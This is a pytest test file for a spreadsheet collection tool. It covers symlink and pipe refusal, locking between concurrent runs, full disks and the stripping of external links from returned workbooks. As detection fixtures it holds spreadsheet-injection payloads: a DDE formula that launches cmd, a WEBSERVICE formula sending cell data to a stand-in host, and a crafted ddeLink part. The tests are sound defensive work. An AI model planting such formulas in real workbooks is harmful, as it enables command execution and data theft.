"""Hard files: links, pipes and devices, full disks, two runs at once, what a killed run leaves."""

from __future__ import annotations

import os
import random
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import zipfile
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import xlsxwriter
from openpyxl import load_workbook

import yuecheng_xl as yx
from tests.conftest import run_cli
from tests.mutations import zipped
from tests.validators import audited
from yuecheng_xl.collection.filenames import names_for
from yuecheng_xl.collection.model import State, Submission
from yuecheng_xl.collection.returning import write_returned
from yuecheng_xl.collection.sources import Source, find_sources, too_large_to_return
from yuecheng_xl.disk import files, lock
from yuecheng_xl.disk.beside import beside
from yuecheng_xl.disk.files import put
from yuecheng_xl.disk.folder import CLAIM, Claim
from yuecheng_xl.disk.regular import NotRegularError, is_link, open_regular
from yuecheng_xl.findings import catalogue
from yuecheng_xl.sheets.outside import leads_out
from yuecheng_xl.sheets.template import Template
from yuecheng_xl.tables.placeholders import plan_scope

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

posix = pytest.mark.skipif(
    sys.platform == "win32", reason="Windows has no pipes in folders, and links need rights"
)


HOLDER = """
import sys, time
from pathlib import Path
from yuecheng_xl.disk.folder import Claim
claim = Claim.lay(Path(sys.argv[1]))
print(flush=True)
time.sleep(60)
"""
HEADERS = ["序号", "指标", "单位", "2025年目标", "2020年", "2021年", "2022年", "责任单位"]
FIRST = [1, "绿化覆盖率", "%", 45, 40, 41, None, "甲局"]


@pytest.fixture
def plan(book: Callable[..., Path]) -> yx.Plan:
    return yx.read_workbook(book([HEADERS, FIRST]))


@pytest.fixture
def inbox(plan: yx.Plan, tmp_path: Path) -> Path:
    """Give a folder with the one department's form."""
    folder = tmp_path / "收到"
    yx.distribute(plan, folder)
    return folder


def codes(collection: yx.Collection) -> set[str]:
    return {item.finding.code for item in collection.findings}


def tree(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*")}


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(path))


def _device(path: Path) -> None:
    path.symlink_to("/dev/zero")


@posix
@pytest.mark.parametrize("make", [_pipe, _socket, _device])
def test_only_a_regular_file_is_opened(
    tmp_path: Path, make: Callable[[Path], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # a socket's path has few bytes
    make(tmp_path / "x")
    with pytest.raises(NotRegularError):
        open_regular(tmp_path / "x")


def test_a_regular_file_is_opened_and_a_folder_is_not(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(b"content")
    with open_regular(tmp_path / "file", follow=False) as file:
        assert file.read() == b"content"
    with pytest.raises(IsADirectoryError):
        open_regular(tmp_path)


@posix
def test_a_link_is_followed_where_it_may_be(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(b"content")
    link = tmp_path / "link"
    link.symlink_to("file")
    with open_regular(link) as file:
        assert file.read() == b"content"
    with pytest.raises(NotRegularError):
        open_regular(link, follow=False)
    assert is_link(link)
    assert not is_link(tmp_path / "file")


@posix
@pytest.mark.parametrize("follow", [True, False])
def test_what_takes_the_place_of_a_file_while_it_is_opened_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, follow: bool
) -> None:
    (tmp_path / "file").write_bytes(b"")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "link").symlink_to("file")
    regular = (tmp_path / "file").stat()
    monkeypatch.setattr(os, "stat", lambda *_, **__: regular)
    with pytest.raises(NotRegularError):
        open_regular(tmp_path / "pipe", follow=follow)
    if not follow:
        with pytest.raises(OSError, match="link"):
            open_regular(tmp_path / "link", follow=False)


# Two runs at once.


def test_a_folder_that_a_run_writes_into_is_refused_to_another(
    plan: yx.Plan, inbox: Path, tmp_path: Path
) -> None:
    out = tmp_path / "结果"
    with Claim.lay(out):
        before = tree(out)
        with pytest.raises(yx.OutputError) as caught:
            yx.collect(inbox, plan, out)
        with pytest.raises(yx.OutputError) as again:
            yx.distribute(plan, out)
        assert {caught.value.finding.code, again.value.finding.code} == {"F720"}
        done = run_cli("collect", inbox, "--master", plan.source, "-o", out, cwd=tmp_path)
        assert done.returncode == 2
        assert "另一个任务" in done.stderr
        assert tree(out) == before
    assert not out.exists()


def test_two_runs_at_once_lose_nothing(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
    for number in range(30):
        shutil.copy(inbox / "甲局.xlsx", inbox / f"甲局{number}.xlsx")
    out, ends = tmp_path / "结果", list[object]()

    def run() -> None:
        try:
            ends.append(yx.collect(inbox, plan, out))
        except yx.OutputError as error:
            ends.append(error.finding.code)

    threads = [threading.Thread(target=run) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [end for end in ends if end != "F720"]
    assert len(tree(out / "标准表")) == 31
    assert not [name for name in tree(out) if ".~" in name]


@posix
def test_the_lock_of_a_killed_run_holds_nobody_up(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
    out = tmp_path / "结果"
    command = [sys.executable, "-c", HOLDER, str(out)]
    holder = subprocess.Popen(command, stdout=subprocess.PIPE)
    assert holder.stdout is not None
    holder.stdout.readline()
    with pytest.raises(yx.OutputError):
        yx.collect(inbox, plan, out)
    holder.send_signal(signal.SIGKILL)
    holder.communicate()
    assert (out / CLAIM).exists()
    assert yx.collect(inbox, plan, out).counts[State.RETURNED] == 0
    assert not (out / CLAIM).exists()


def test_where_nothing_can_be_locked_it_is_said(
    plan: yx.Plan, inbox: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_locks(_: int) -> None:
        raise lock.NoLocksError

    monkeypatch.setattr(lock, "_lock", no_locks)
    other = tmp_path / "结果" / ".~汇总中ab12" / "标准表"  # nobody can tell whether of a run that is gone
    other.mkdir(parents=True)
    collection = yx.collect(inbox, plan, tmp_path / "结果")
    assert other.exists()
    assert "F721" in codes(collection)
    assert tree(tmp_path / "结果") >= {"标准表/甲局.xlsx", "问题清单.xlsx"}
    assert "F721" in {item.code for item in yx.distribute(plan, tmp_path / "报送表").findings}
    assert tree(tmp_path / "报送表") == {"甲局.xlsx"}


def test_a_lock_is_not_left_to_who_opened_it_before_it_was_removed(tmp_path: Path) -> None:
    path = tmp_path / "x"
    first = lock.open_locked(path, mode=0o600)
    with pytest.raises(lock.LockedError):
        lock.open_locked(path, mode=0o600)
    lock.remove(first, path)
    assert not path.exists()
    lock.remove(lock.open_locked(path, mode=0o600), path)


def test_a_file_that_another_run_is_writing_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "结果.xlsx"
    with beside(path, b"one", suffix=".xlsx", mode=0o644) as temporary:
        if sys.platform != "win32":  # which takes it for given up until it is moved
            with pytest.raises(yx.OutputError) as caught:
                put(b"two", path)
            assert caught.value.finding.code == "F720"
        temporary.replace(path)
    assert path.read_bytes() == b"one"
    assert tree(tmp_path) == {"结果.xlsx"}


def test_files_are_closed_before_they_are_moved_or_removed_as_windows_asks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lock, "_lock", lambda _: None)
    monkeypatch.setattr(sys, "platform", "win32")
    with Claim.lay(tmp_path / "结果") as claim:
        assert claim.is_sure
        put(b"new", tmp_path / "结果" / "表.xlsx")
    assert tree(tmp_path) == {"结果", "结果/表.xlsx"}


# What a killed run leaves.


def test_what_a_killed_run_left_beside_a_file_goes_with_the_next(tmp_path: Path) -> None:
    path = tmp_path / "结果.xlsx"
    with beside(path, b"", suffix=".xlsx", mode=0o644) as temporary:
        pass
    other = tmp_path / "别人的.xlsx"
    other.write_bytes(b"theirs")
    temporary.write_bytes(b"longer than what is written now")
    put(b"new", path)
    assert path.read_bytes() == b"new"
    if sys.platform != "win32":
        for make in (temporary.hardlink_to, temporary.symlink_to):
            make(other)
            put(b"newer", tmp_path / "结果.xlsx")
            for kept in tmp_path.glob("*备份*"):
                kept.unlink()
    assert other.read_bytes() == b"theirs"
    assert tree(tmp_path) == {"结果.xlsx", "别人的.xlsx"}


def test_what_runs_leave_or_keep_in_a_folder_is_no_submission(inbox: Path) -> None:
    with beside(inbox / "结果.xlsx", b"", suffix=".xlsx", mode=0o644) as temporary, Claim.lay(inbox):
        assert temporary.exists()
        assert [source.label for source in find_sources(inbox, inbox)] == ["甲局.xlsx"]


@posix
def test_what_killed_runs_left_in_a_folder_goes_with_the_next_that_claims_it(tmp_path: Path) -> None:
    with beside(tmp_path / "旧.xlsx", b"", suffix=".xlsx", mode=0o644) as left:
        pass
    left.write_bytes(b"half")
    with beside(tmp_path / "在写.xlsx", b"whole", suffix=".xlsx", mode=0o644) as busy:
        (tmp_path / ".~别人的.xlsx").write_bytes(b"theirs")
        with Claim.lay(tmp_path):
            assert tree(tmp_path) == {CLAIM, busy.name, ".~别人的.xlsx"}
        assert busy.read_bytes() == b"whole"


@posix
def test_the_unpacked_files_of_a_killed_run_go_with_the_next(
    plan: yx.Plan, inbox: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "临时"))
    other = tmp_path / "临时" / "yuecheng-xl-other"
    other.mkdir(parents=True)  # of another kind of job
    command = [sys.executable, "-c", HOLDER, str(tmp_path / "临时" / "yuecheng-xl-running")]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as holder:
        assert holder.stdout is not None
        holder.stdout.readline()
        (tmp_path / "临时" / "yuecheng-xl-running" / "里").mkdir()
        yx.collect(inbox, plan)
        assert len(tree(tmp_path / "临时")) == 4
        holder.kill()
    yx.collect(inbox, plan)
    assert tree(tmp_path / "临时") == {other.name}


def test_what_is_unpacked_lies_in_the_output_folder(
    plan: yx.Plan, inbox: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "没有"))
    inner = zipped(("甲局.xlsx", (inbox / "甲局.xlsx").read_bytes()), ("b.txt", b"text"))
    (inbox / "外.zip").write_bytes(zipped(("里.zip", inner)))
    out = tmp_path / "结果"
    collection = yx.collect(inbox, plan, out)
    assert set(collection.states) == {"甲局.xlsx", "外.zip/里.zip/甲局.xlsx", "外.zip/里.zip/b.txt"}
    assert {path.name for path in out.iterdir() if path.name.startswith(".")} == {".yuecheng-xl.json"}
    with pytest.raises(yx.OutputError) as caught:
        yx.collect(inbox, plan)  # nowhere to write at all
    assert caught.value.finding.code == "F722"


# Full disks, unreadable files, large ones.


@contextmanager
def largest_file(size: int) -> Iterator[None]:
    """Let no file become larger: writing it fails as on a full disk."""
    import resource

    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@posix
@pytest.mark.parametrize("write", [True, False])
def test_a_full_disk_is_not_the_departments_fault(
    plan: yx.Plan, inbox: Path, tmp_path: Path, *, write: bool
) -> None:
    large = random.Random(0).randbytes(300_000)  # noqa: S311 - does not pack
    (inbox / "外.zip").write_bytes(zipped(("甲局.xlsx", zipped(("[Content_Types].xml", b""), ("大", large)))))
    with largest_file(200_000), pytest.raises(yx.OutputError) as caught:
        yx.collect(inbox, plan, tmp_path / "结果" if write else None)
    assert caught.value.finding.code == "F722"
    assert not (tmp_path / "结果").exists()


@posix
def test_a_copy_that_cannot_be_written_stops_the_batch_and_is_not_left_by_half(tmp_path: Path) -> None:
    source, target = tmp_path / "甲局.xls", tmp_path / "退回" / "甲局（原件）.xls"
    source.write_bytes(bytes(300_000))
    with largest_file(200_000), pytest.raises(yx.OutputError) as caught:
        files.pour([source.read_bytes()], target, partial(files.cannot_write, target))
    assert caught.value.finding.code == "F707"
    assert not target.exists()


@pytest.mark.skipif(sys.platform != "linux", reason="a regular file that gives an input/output error")
def test_a_file_that_cannot_be_read_has_no_copy_and_its_explanation_says_so(
    plan: yx.Plan, tmp_path: Path
) -> None:
    submission = Submission("甲局.xls", "甲局", findings=(catalogue.NO_CELLS.at(),))
    (names,) = names_for(["甲局.xls"])
    templates, scope = Template(None, "汇总.xlsx"), plan_scope(plan)
    sent = write_returned(submission, Path("/proc/self/mem"), None, names, tmp_path, templates, scope)
    assert [item.code for item in sent.findings] == ["F806", "F849"]
    explanation = load_workbook(tmp_path / sent.returned)["退回说明"]
    assert sent.findings[1].message in {cell.value for row in explanation for cell in row}
    assert {path.name for path in (tmp_path / "退回").iterdir()} == {"甲局.xls.xlsx"}


def test_what_is_too_large_is_not_sent_back(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
    (inbox / "小.xls").write_bytes(b"small")
    with (inbox / "大.xls").open("wb") as file:
        file.truncate((200 << 20) + 1)  # sparse
    collection = yx.collect(inbox, plan, tmp_path / "结果")
    said = {item.file: [finding.code for finding in item.findings] for item in collection.submissions}
    assert said["小.xls"] == ["F102"]
    assert said["大.xls"] == ["F102", "F848"]
    originals = [name for name in tree(tmp_path / "结果") if "原件" in name]
    assert originals == ["退回/小（原件）.xls"]


def test_a_batch_does_not_fill_the_disk_with_copies() -> None:
    gigabyte = 1 << 30
    sizes = [gigabyte // 8] * 20 + [100] * 5000
    sources = [Source(str(number), Path(), size=size) for number, size in enumerate(sizes)]
    left_out = too_large_to_return(sources)
    assert sum(source.size for source in sources if source.label not in left_out) < 2 * gigabyte + 10**6
    assert len(left_out) == 4


# Links, pipes and devices.


@posix
def test_nothing_but_regular_files_of_the_inbox_is_read(
    plan: yx.Plan, inbox: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(inbox)
    secret = tmp_path / "秘密.txt"
    secret.write_bytes(b"secret")
    shutil.copy(inbox / "甲局.xlsx", tmp_path / "别处.xlsx")
    _pipe(inbox / "管道.xlsx")
    _socket(inbox / "套接字")
    links: dict[str, str | Path] = {
        "设备.xlsx": "/dev/zero",
        "外.txt": secret,
        "外.xlsx": tmp_path / "别处.xlsx",
        "内.xlsx": "甲局.xlsx",
    }
    links |= {"到管道": "管道.xlsx", "断.zip": "没有", "外.zip": secret, "上级": tmp_path, "圈": "圈"}
    for name, target in links.items():
        (inbox / name).symlink_to(target)
    (inbox / "硬.xlsx").hardlink_to(tmp_path / "别处.xlsx")
    collection = yx.collect(inbox, plan, tmp_path / "结果")
    said = {item.file: [finding.code for finding in item.findings] for item in collection.submissions}
    assert {name for name, found in said.items() if found == ["F847"]} == set(links)
    assert {name for name, found in said.items() if found == ["F116"]} == {"管道.xlsx", "套接字"}
    assert collection.states["甲局.xlsx"] is not State.RETURNED
    assert collection.states["硬.xlsx"] is not State.RETURNED
    assert not [name for name in tree(tmp_path / "结果" / "退回") if "原件" in name]


def test_a_lock_file_of_libreoffice_is_no_submission_of_a_department(plan: yx.Plan, inbox: Path) -> None:
    (inbox / ".~lock.甲局.xlsx#").write_bytes(b",zhang,pc,28.11.2026 09:00,file:///home/zhang;")
    found = {item.file: item for item in yx.collect(inbox, plan).submissions}[".~lock.甲局.xlsx#"]
    assert ([item.code for item in found.findings], found.department) == (["F108"], "")


@posix
def test_an_inbox_may_be_a_link(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
    (tmp_path / "链接").symlink_to(inbox)
    assert list(yx.collect(tmp_path / "链接", plan).states) == ["甲局.xlsx"]


@posix
def test_a_link_that_takes_a_files_place_after_the_folder_was_listed_is_not_copied(
    plan: yx.Plan, inbox: Path, tmp_path: Path
) -> None:
    (tmp_path / "秘密").write_bytes(b"secret")
    for number in range(20):  # more than are done before progress is told
        (inbox / f"乙{number:02}.txt").write_bytes(b"no workbook")

    def replace(*_: int) -> None:
        for path in inbox.glob("乙*"):
            path.unlink()
            path.symlink_to(tmp_path / "秘密")

    yx.collect(inbox, plan, tmp_path / "结果", progress=replace)
    copies = [path.read_bytes() for path in (tmp_path / "结果" / "退回").glob("*原件*")]
    assert copies == [b"no workbook"] * len(copies)
    assert 0 < len(copies) < 20


@posix
def test_nothing_is_written_through_a_link(plan: yx.Plan, inbox: Path, tmp_path: Path) -> None:
    elsewhere, out = tmp_path / "别处", tmp_path / "结果"
    for name in (".~汇总中", "退回"):
        (elsewhere / name).mkdir(parents=True)
        (elsewhere / name / "文件").write_bytes(b"theirs")
    names = [".yuecheng-xl.json", CLAIM, "问题清单.xlsx"]
    for name in names:
        (elsewhere / name).write_bytes(b"theirs")
    out.mkdir()
    before = tree(elsewhere)
    for name in [*names, ".~汇总中", "退回"]:
        (out / name).symlink_to(elsewhere / name)
    collection = yx.collect(inbox, plan, out)
    assert tree(elsewhere) == before
    assert {path.read_bytes() for path in elsewhere.rglob("*") if path.is_file()} == {b"theirs"}
    assert [item.finding.code for item in collection.findings].count("F706") == 2  # kept under other names
    assert not [path for name in ("标准表", "退回", *names) if (path := out / name).is_symlink()]
    assert "F706" not in codes(yx.collect(inbox, plan, out))


# The person's workbook, in place.


def evaluate_in_place(path: Path) -> yx.Written:
    return yx.write_results(yx.evaluate(yx.read_workbook(path)), in_place=True)


@posix
def test_a_workbook_keeps_its_rights_and_the_link_to_it(master: Path, tmp_path: Path) -> None:
    before = master.read_bytes()
    master.chmod(0o640)
    if os.getuid() == 0:
        os.chown(master, 12, 34)
    owner = master.stat()
    (tmp_path / "桌面").mkdir()
    link = tmp_path / "桌面" / "总表.xlsx"
    link.symlink_to(master)
    written = evaluate_in_place(link)
    assert link.is_symlink()
    assert master.read_bytes() != before
    state = master.stat()
    assert (stat.S_IMODE(state.st_mode), state.st_uid, state.st_gid) == (0o640, owner.st_uid, owner.st_gid)
    assert written.backup is not None
    assert written.backup.read_bytes() == before
    assert stat.S_IMODE(written.backup.stat().st_mode) == 0o640


@pytest.mark.parametrize("name", ["~$指标总表.xlsx", ".~lock.指标总表.xlsx#"])
def test_a_workbook_that_somebody_has_open_is_not_written_back(
    master: Path, tmp_path: Path, name: str
) -> None:
    master = master.rename(tmp_path / "指标总表.xlsx")
    before = master.read_bytes()
    (tmp_path / name).write_bytes(b"zhang")
    with pytest.raises(yx.OutputError) as caught:
        evaluate_in_place(master)
    assert caught.value.finding.code == "F723"
    assert name in caught.value.finding.message
    assert master.read_bytes() == before
    assert tree(tmp_path) == {master.name, name}
    written = yx.write_results(yx.evaluate(yx.read_workbook(master)), tmp_path / "结果.xlsx")
    assert [item.code for item in written.findings].count("F724") == 1


@posix
def test_a_backup_is_whole_or_not_there(master: Path, tmp_path: Path) -> None:
    size = master.stat().st_size
    with largest_file(size - 1000), pytest.raises(yx.OutputError) as caught:
        files.back_up(master)
    assert caught.value.finding.code == "F707"
    assert tree(tmp_path) == {master.name}
    copies = {files.back_up(master) for _ in range(3)}
    assert len(copies) == 3
    assert {copy.read_bytes() for copy in copies} == {master.read_bytes()}


@pytest.mark.parametrize("place", range(4))
def test_a_chart_sheet_counts_among_the_sheets_that_names_belong_to(tmp_path: Path, place: int) -> None:
    path = tmp_path / "总表.xlsx"
    book = xlsxwriter.Workbook(path)
    rows: list[list[object]] = [list(HEADERS)]
    rows += [[number, f"指标{number}", "个", 100, 50, 60, 70, None] for number in (1, 2, 3)]
    contents: dict[str, list[list[object]]] = {
        "指标总表": rows,
        "勾稽关系": [["勾稽关系"], ["[3] = [1] + [2]"]],
        "附表": [[5]],
    }
    for number, (title, lines) in enumerate([*contents.items(), ("", [])]):
        if number == place:
            chart = book.add_chart({"type": "line"})
            assert chart is not None
            chart.add_series({"values": "=指标总表!$E$2:$G$2"})
            book.add_chartsheet("趋势图").set_chart(chart)
        if title:
            sheet = book.add_worksheet(title)
            for row, line in enumerate(lines):
                sheet.write_row(row, 0, line)
            book.define_name(f"{title}!自己", f"={title}!$A$1")
    book.close()
    found = []
    for _ in range(2):
        evaluation = yx.evaluate(yx.read_workbook(path))
        found.append([item.code for item in evaluation.findings if item.code == "F1211"])
        yx.write_results(evaluation, in_place=True)
    assert found == [["F1211"] * 3] * 2  # the identities are read, before and after
    result = load_workbook(path)
    for title in contents:
        assert {name: item.attr_text for name, item in result[title].defined_names.items()} == {
            "自己": f"{title}!$A$1"
        }


@posix
@pytest.mark.parametrize("make", [_pipe, _socket, _device])
def test_a_master_is_a_regular_file_or_a_link_to_one(
    master: Path, tmp_path: Path, make: Callable[[Path], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    make(tmp_path / "x.xlsx")
    with pytest.raises(yx.InputFileError) as caught:
        yx.read_workbook(tmp_path / "x.xlsx")
    assert caught.value.finding.code == "F116"
    (tmp_path / "链接.xlsx").symlink_to(master)
    assert yx.read_workbook(tmp_path / "链接.xlsx").indicators


# What leads out of a file that goes back.

OUTSIDE = [
    "[1]Sheet1!A1+1",
    "'[1]Sheet 1'!A1",
    "SUM([1]一月:三月!A1)",
    r"'C:\表\[x.xlsx]Sheet1'!A1",
    "cmd|'/c calc'!A0",
    '_xlfn.WEBSERVICE("http://x/"&A1)',
    r'HYPERLINK("\\server\x","点")',
]
INSIDE = [
    "表1[2020]+Sheet2!A1",
    "SUM(表1[[2020]:[2021]])",
    "'a|b'!A1",
    '"[1]x!|"&A1',
    'HYPERLINK( "https://x/","点")',
    "INDEX(A:A,1)",
    "[@列]*2",
]
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
AWAY = rb"file:///\\server\share\x.xlsx"


@pytest.mark.parametrize("formula", OUTSIDE)
def test_formulas_that_lead_out_are_known(formula: str) -> None:
    assert leads_out(formula)


@pytest.mark.parametrize("formula", INSIDE)
def test_formulas_that_stay_inside_are_left(formula: str) -> None:
    assert not leads_out(formula)


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def relation(kind: bytes, target: bytes, *, outside: bool = False) -> bytes:
    mode = b' TargetMode="External"' if outside else b""
    return b'<Relationship Id="rId91" Type="%s/%s" Target="%s"%s/>' % (OFFICE, kind, target, mode)


def write_leading_out(path: Path, *, is_dde: bool = False) -> None:
    """Write a faulty form with each kind of way out, and some harmless ones."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("表")
    sheet.write_row(0, 0, HEADERS)
    sheet.write_row(1, 0, [*FIRST[:6], "四十几", "甲局"])
    sheet.write_url("A9", "https://example.org/")
    sheet.write_url("B9", "file:///C:/x.xlsx", string="链接")
    sheet.write_formula("C9", "=SUM(E2:F2)", value=81)
    for row, formula in enumerate(OUTSIDE, 10):
        sheet.write_formula(row - 1, 0, f"={formula}", value=row)
    sheet.write_formula("C10", "=外部+1", value=7)
    book.define_name("外部", "='[1]Sheet 1'!$A$1")
    book.close()
    parts = parts_of(path)
    namespace = b"http://schemas.openxmlformats.org/package/2006/relationships"
    whole = b'<Relationships xmlns="%s">%s</Relationships>'
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        b'xmlns:r="%s" r:id="rId91"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
        b"</externalLink>" % OFFICE
    )
    if is_dde:
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        )
    outside = relation(b"externalLinkPath", AWAY, outside=True)
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = whole % (namespace, outside)
    listed = (
        b'<externalReferences><externalReference xmlns:r="%s" r:id="rId91"/></externalReferences>' % OFFICE
    )
    own = relation(b"externalLink", b"externalLinks/externalLink1.xml")
    for name, mark, added in (
        ("xl/workbook.xml", b"<definedNames>", listed),
        ("xl/_rels/workbook.xml.rels", b"</Relationships>", own),
    ):
        assert mark in parts[name]
        parts[name] = parts[name].replace(mark, added + mark)
    path.write_bytes(zipped(*parts.items()))


@pytest.mark.parametrize("is_dde", [False, True])
def test_what_leads_out_of_a_form_does_not_go_back(
    plan: yx.Plan, inbox: Path, tmp_path: Path, *, is_dde: bool
) -> None:
    write_leading_out(inbox / "甲局.xlsx", is_dde=is_dde)
    (submission,) = yx.collect(inbox, plan, tmp_path / "结果").submissions
    (said,) = [item.message for item in submission.findings if item.code == "F850"]
    assert ("DDE（cmd|/c calc）" if is_dde else AWAY.decode()) in said
    back = tmp_path / "结果" / submission.returned
    parts = parts_of(back)
    assert not audited(back)
    assert not [name for name in parts if "externalLink" in name]
    assert b"externalReferences" not in parts["xl/workbook.xml"]
    outside = [name for name, part in parts.items() if name.endswith(".rels") and b"External" in part]
    assert [parts[name].count(b"External") for name in outside] == [1]
    returned = load_workbook(back)
    sheet = returned["表"]
    cells = [sheet.cell(row, 1) for row in range(10, 10 + len(OUTSIDE))]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "s", "n", "n"]
    assert [cell.value for cell in cells] == [10, 11, 12, 13, "=cmd|'/c calc'!A0", 15, 16]
    assert (sheet["C9"].value, sheet["C10"].value) == ("=SUM(E2:F2)", 7)
    assert sheet["A9"].hyperlink.target == "https://example.org/"
    assert sheet["B9"].hyperlink is None
    assert "外部" not in returned.defined_names
    assert not [name for name in tree(tmp_path / "结果") if "原件" in name]


@pytest.mark.parametrize(
    ("part", "kind", "target"),
    [
        ("xl/_rels/workbook.xml.rels", b"image", b""),
        ("xl/_rels/workbook.xml.rels", b"oleObject", b""),
        ("xl/_rels/workbook.xml.rels", b"connections", b"connections.xml"),
        ("xl/_rels/workbook.xml.rels", b"revisionHeaders", b"styles.xml"),
        ("_rels/.rels", b"digital-signature/origin", b"xl/styles.xml"),
    ],
)
def test_what_cannot_be_cut_off_or_must_not_be_changed_goes_back_as_values(
    plan: yx.Plan, inbox: Path, tmp_path: Path, part: str, kind: bytes, target: bytes
) -> None:
    path = inbox / "甲局.xlsx"
    write_leading_out(path)
    parts = parts_of(path)
    added = relation(kind, target or AWAY, outside=not target).replace(b"rId91", b"rId92")
    parts[part] = parts[part].replace(b"</Relationships>", added + b"</Relationships>")
    path.write_bytes(zipped(*parts.items()))
    (submission,) = yx.collect(inbox, plan, tmp_path / "结果").submissions
    assert "F850" in {item.code for item in submission.findings}
    sent = parts_of(tmp_path / "结果" / submission.returned)
    assert not [part for part in sent.values() if b"External" in part or re.search(rb"<f[ >]", part)]
    assert (tmp_path / "结果" / "退回" / "甲局（原件）.xlsx").read_bytes() == path.read_bytes()
